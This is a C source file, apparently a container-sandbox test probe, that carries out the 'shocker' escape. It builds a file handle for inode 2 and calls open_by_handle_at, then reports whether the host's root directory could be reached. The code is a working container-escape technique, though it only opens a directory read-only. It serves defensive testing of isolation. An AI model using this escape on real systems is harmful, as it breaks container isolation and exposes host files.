/* SPDX-License-Identifier: Apache-2.0 */
/* The "shocker" attack: open_by_handle_at(2) with a forged handle of inode 2
 * (the root directory of ext2/3/4 file systems) on the file system that holds
 * the container's root, which opens the host's "/" when it works.  Opens a
 * directory read-only, nothing more. */
#include "probe.h"

#include <fcntl.h>
#include <stdint.h>
#include <sys/stat.h>
#include <unistd.h>

struct forged_handle {
	struct file_handle fh;
	uint32_t ino_gen[2]; /* FILEID_INO32_GEN: inode, generation */
};

int main(int argc, char **argv)
{
	const char *where = argc > 1 ? argv[1] : "/etc";
	struct forged_handle h = { .fh = { .handle_bytes = 8, .handle_type = 1 } };
	struct stat st, root;
	int mfd = open(where, O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	if (mfd < 0)
		return probe_error("open %s: %s", where, strerror(errno));
	h.ino_gen[0] = 2;
	h.ino_gen[1] = 0;
	int fd = open_by_handle_at(mfd, &h.fh, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (fd < 0) {
		int e = errno;
		/* ESTALE and friends mean the call itself was allowed. */
		if (e != EPERM && e != EACCES && e != ENOSYS)
			return probe_escaped(
				"open_by_handle_at is allowed (it failed only with %s)",
				probe_errname(e));
		return probe_blocked(e, "open_by_handle_at(inode 2 of %s)", where);
	}
	if (fstat(fd, &st) == 0 && stat("/", &root) == 0 && st.st_ino == root.st_ino &&
	    st.st_dev == root.st_dev)
		return probe_escaped("open_by_handle_at opened a directory (the container's /)");
	return probe_escaped("open_by_handle_at opened the file system's root directory");
}
